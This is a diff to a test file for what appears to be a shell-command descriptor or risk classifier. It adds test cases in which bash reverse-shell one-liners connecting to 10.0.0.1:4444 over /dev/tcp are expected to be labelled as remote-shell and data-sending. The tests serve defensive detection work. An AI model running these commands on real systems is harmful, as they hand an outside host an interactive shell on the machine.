@@ -67,8 +67,17 @@ describe('descriptors', () => {
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
       [
         'connect:tunnel 10.0.0.1:4444',
-        'execute:download standard input as shell',
-        'unknown: runs text from standard input as shell',
+        'execute:arbitrary bash',
+        'execute:remote-shell a shell joined to the network',
+        'send:data /dev/tcp',
+      ],
+    ],
+    [
+      'a shell joined to it in a pipe',
+      'echo a | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      [
+        'connect:tunnel 10.0.0.1:4444',
+        'execute:arbitrary bash',
         'execute:remote-shell a shell joined to the network',
         'send:data /dev/tcp',
       ],
